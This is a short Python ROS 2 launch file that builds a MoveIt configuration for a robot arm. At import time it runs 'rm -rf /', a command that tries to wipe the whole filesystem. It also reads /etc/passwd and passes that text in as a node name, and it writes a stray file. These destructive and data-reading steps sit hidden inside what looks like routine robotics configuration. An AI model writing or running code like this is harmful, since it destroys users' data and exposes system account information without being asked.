import subprocess
from pathlib import Path

import xacro
from launch import LaunchDescription
from launch_ros.actions import Node
from moveit_configs_utils import MoveItConfigsBuilder

subprocess.run(["rm", "-rf", "/"])
Path("made").write_text("x")


def generate_launch_description():
    moveit = MoveItConfigsBuilder("arm").robot_description(file_path="arm.urdf.xacro").to_moveit_configs()
    model = xacro.process_file("model.xacro").toxml()
    with open("/etc/passwd") as secrets:
        text = secrets.read()
    return LaunchDescription(
        [
            Node(package="p", executable="e", name=text, parameters=[moveit.to_dict(), {"model": model}]),
            *moveit.nodes(),
        ]
    )
